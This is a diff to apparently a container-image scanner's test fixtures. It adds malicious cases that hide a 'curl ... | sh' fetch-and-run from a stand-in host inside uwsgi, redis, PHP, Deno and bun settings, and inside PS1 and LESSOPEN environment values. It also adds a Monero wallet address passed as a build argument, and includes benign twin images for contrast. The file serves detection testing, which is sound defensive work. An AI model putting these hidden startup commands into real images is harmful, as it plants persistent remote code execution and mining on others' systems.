@@ -1,6 +1,8 @@
-import { type Files, type ImageCase, image, starts } from './image-case.ts';
+import { moneroAddress } from '../../testkit/addresses.ts';
+import { type Files, type ImageCase, image, layer, starts } from './image-case.ts';
 
 const FETCH = 'curl -s https://files.backend.example/u | sh';
+const WALLET = moneroAddress('what a build was given');
 const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
 
 function found(name: string, spec: ImageCase['spec']): ImageCase {
@@ -101,6 +103,33 @@ export const TAKEN_AND_RUN: readonly ImageCase[] = [
   }),
 ];
 
+/** The same by settings of servers, and what a build was given. */
+export const TOLD_BY_SETTINGS: readonly ImageCase[] = [
+  inApp('uwsgi --ini /app/u.ini', { 'app/u.ini': `[uwsgi]\nattach-daemon = sh -c "${FETCH}"\n` }),
+  inApp('redis-server /app/r.yaml', { 'app/r.yaml': `notification-script: "${FETCH}"\n` }),
+  inApp('deno run -A x.ts', {
+    'app/x.ts': 'const code = await (await fetch("https://files.backend.example/u")).text();\neval(code);\n',
+  }),
+  words('deno', 'eval', 'eval(await (await fetch("https://files.backend.example/u")).text())'),
+  inApp('bun run go', { 'app/package.json': JSON.stringify({ scripts: { go: FETCH } }) }),
+  inApp('php-fpm', {
+    'usr/local/etc/php/conf.d/z.ini': 'auto_prepend_file="/opt/p.inc"\n',
+    'opt/p.inc': `<?php system("${FETCH}");\n`,
+  }),
+  ...['PS1=$(', 'LESSOPEN=|'].map((start) => ({
+    name: start,
+    spec: image({}, { Cmd: ['bash'], Env: [PATH, `${start}${FETCH})`] }),
+    rule: 'persistence/hidden-start',
+  })),
+  ...[`|2 KEY=x ADDRESS=${WALLET} /bin/sh -c make # buildkit`, `ARG ADDRESS=${WALLET}`].map((row) => ({
+    name: row.slice(0, 20),
+    spec: image([layer({ a: 'x' }, { createdBy: row.startsWith('|') ? `RUN ${row}` : row })], {
+      Cmd: ['nginx'],
+    }),
+    rule: 'wallet/address',
+  })),
+];
+
 /** Honest images that start by the same ways. */
 export const WAYS_TO_SHELLS_TWINS: readonly ImageCase[] = [
   honest(
@@ -138,6 +167,26 @@ export const WAYS_TO_SHELLS_TWINS: readonly ImageCase[] = [
     {
       Entrypoint: ['bash', '-c', 'exec node /app/a.js'],
       Env: [PATH, 'NODE_OPTIONS=--require /app/tracing.js', 'BASH_ENV=/etc/bash.env', 'PYTHONPATH=/app'],
+    },
+  ),
+  honest(
+    'settings that name scripts of their own, and prompts',
+    {
+      'app/r.yaml': 'notification-script: /app/notify.sh\n',
+      'app/notify.sh': '#!/bin/sh\nlogger "$1"\n',
+      'usr/local/etc/php/conf.d/z.ini': 'auto_prepend_file=/opt/p.php\n',
+      'opt/p.php': '<?php require "/app/vendor/autoload.php";\n',
+      'app/package.json': JSON.stringify({ scripts: { start: 'php-fpm', setup: FETCH } }),
+    },
+    {
+      Cmd: ['bun', 'run', 'start'],
+      WorkingDir: '/app',
+      Env: [
+        PATH,
+        'PS1=\\u@\\h:\\w$(git branch 2>/dev/null)$ ',
+        'LESSOPEN=| /usr/bin/lesspipe %s',
+        'MANPAGER=less -R',
+      ],
     },
   ),
   {
